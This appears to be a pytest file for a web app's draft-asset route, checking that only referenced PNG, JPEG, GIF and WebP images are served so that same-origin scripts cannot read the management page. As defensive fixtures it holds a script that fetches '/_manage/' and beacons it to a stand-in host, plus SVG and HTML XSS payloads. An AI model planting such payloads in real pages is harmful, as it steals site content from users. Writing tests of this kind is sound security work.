"""``/_amber/draft/assets/<file>`` serves only images that a draft or a share shows.

The route shares its origin with the management page and every draft: an HTML page
or a script served from content/assets/ there could read them all. So it serves only
files some conversation or share refers to, and only PNG, JPEG, GIF and WebP files
named for what they hold.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from amber.serve.app import Response
from tests.helpers.serve import InProcessSite, share_now, touch_later

PICTURE = "5644c9c617c8292e625d9e5a07a5b64d09386b8c511db19689aeef3449544492.png"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR served"
HTML = b"<!doctype html><script src=steal.js></script>"
SCRIPT = b"fetch('/_manage/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"


class Server(InProcessSite):
    def __init__(self, root: Path) -> None:
        super().__init__(root)
        self.root = root
        self.assets = root / "content" / "assets"

    def asset(self, name: str) -> Response:
        return self.get(f"/_amber/draft/assets/{name}")

    def show(self, slug: str, src: str) -> None:
        """A conversation (and so a draft) that shows ``src``."""
        touch_later(self.root / "content" / "conversations" / f"{slug}.yaml", f"""\
title: Shows {src}
messages:
  - role: user
    content:
      - type: image
        src: {src}
  - role: assistant
    content: Seen.
""")
        self.rebuilder.rebuild()


@pytest.fixture
def server(serve_site: Path) -> Server:
    return Server(serve_site)


def test_a_referenced_image_is_served(server: Server) -> None:
    response = server.asset(PICTURE)
    assert response.status == 200 and response.content_type == "image/png"


@pytest.mark.parametrize(("name", "data"), [
    ("steal.html", HTML), ("steal.js", SCRIPT), ("steal.svg", b"<svg onload=alert(1)>"),
    ("unused.png", PNG),  # a real image, but nothing shows it
])
def test_files_nothing_refers_to_are_not_served(
    server: Server, name: str, data: bytes
) -> None:
    (server.assets / name).write_bytes(data)
    server.rebuilder.rebuild()
    assert server.asset(name).status == 404


@pytest.mark.parametrize(("name", "data"), [
    ("page.html", HTML), ("script.js", SCRIPT), ("fake.png", HTML),
    ("vector.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
])
def test_referenced_files_that_are_not_images_are_not_served(
    server: Server, name: str, data: bytes
) -> None:
    """A draft may name anything in content/assets/; the rule still decides."""
    (server.assets / name).write_bytes(data)
    server.show("shows", f"assets/{name}")
    assert server.asset(name).status == 404
    page = server.get("/_preview/shows/")
    assert page.status == 500, "the draft must say why its image cannot be shown"
    assert f"assets/{name}".encode() in page.body


def test_a_share_makes_its_image_servable_and_a_revoked_reference_stops(
    server: Server,
) -> None:
    (server.assets / "shared.png").write_bytes(PNG)
    server.show("shows", "assets/shared.png")
    share_now(server.root, "shows")
    server.show("shows", f"assets/{PICTURE}")  # the draft moves on; the share still shows it
    assert server.asset("shared.png").status == 200
    (server.root / "content" / "conversations" / "picture.yaml").unlink()
    server.rebuilder.rebuild()
    assert server.asset(PICTURE).status == 200  # the draft "shows" refers to it now


def test_a_shared_image_swapped_for_a_page_is_reported_and_not_served(server: Server) -> None:
    """The share's page comes from the server's page cache: the swap must still be seen."""
    share_id = share_now(server.root, "picture", listed=True)
    server.rebuilder.rebuild()
    state = server.rebuilder.live.state
    assert state.problems == () and f"assets/{PICTURE}" in (state.build.files if state.build
                                                            else {})
    (server.assets / PICTURE).write_bytes(HTML)
    server.rebuilder.rebuild()
    problems = server.rebuilder.live.state.problems
    assert any(f"content/shares/{share_id}.yaml" in p and f"assets/{PICTURE}" in p
               for p in problems), problems
    assert server.asset(PICTURE).status == 404
